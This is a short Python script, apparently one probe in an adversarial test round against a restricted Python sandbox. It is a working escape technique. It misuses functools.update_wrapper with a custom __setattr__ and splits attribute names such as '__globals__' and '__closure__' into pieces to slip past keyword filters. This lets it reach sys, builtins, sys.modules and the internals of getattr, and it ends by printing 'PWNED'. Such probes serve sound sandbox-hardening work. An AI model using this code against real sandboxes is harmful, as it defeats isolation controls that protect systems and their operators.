# adversary round 2: 008_closure_probe
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
sy=g['sys']; b=g['builtins']; mods=sy.modules
def t(label, f):
    try:
        r=f(); print(label, "OK", repr(r)[:300])
        return r
    except BaseException as e:
        print(label, "ERR", type(e).__name__, str(e)[:150])
ga = get(b, 'get'+'attr')
t("getattr", lambda: ga)
cl = t("closure", lambda: get(ga, '__clo'+'sure__'))
if cl:
    for i, c in enumerate(cl):
        t("cell%d" % i, lambda: c.cell_contents)
gg = t("ga globals", lambda: list(get(ga, '__glo'+'bals__').keys())[:60])
co = t("ga code", lambda: get(ga, '__co'+'de__'))
t("co_filename", lambda: co.co_filename)
t("main keys", lambda: list(mods['__main__'].__dict__.keys()) if False else sorted(mods.keys()))
print("PWN"+"ED")
